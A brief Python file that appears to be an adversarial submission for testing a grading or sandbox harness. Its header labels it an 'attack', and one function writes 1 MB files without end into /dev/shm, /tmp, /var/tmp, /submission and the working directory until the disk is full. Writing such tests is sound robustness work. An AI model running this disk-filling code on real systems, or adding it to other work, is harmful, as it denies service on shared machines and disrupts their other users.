# /// attack
# outcomes = ["crashed", "unimplemented"]
# says = "No space left"
# ///
"""Fills every folder that can be written to."""

import itertools
import os


def read_queue_twice(queue_name, messages):
    raise NotImplementedError


def read_log_twice(stream_name, messages):
    for folder in ("/dev/shm", "/var/tmp", "/submission", os.getcwd(), "/tmp"):
        try:
            for number in itertools.count():
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(b"x" * (1 << 20))
        except OSError as error:
            last = error
    raise last
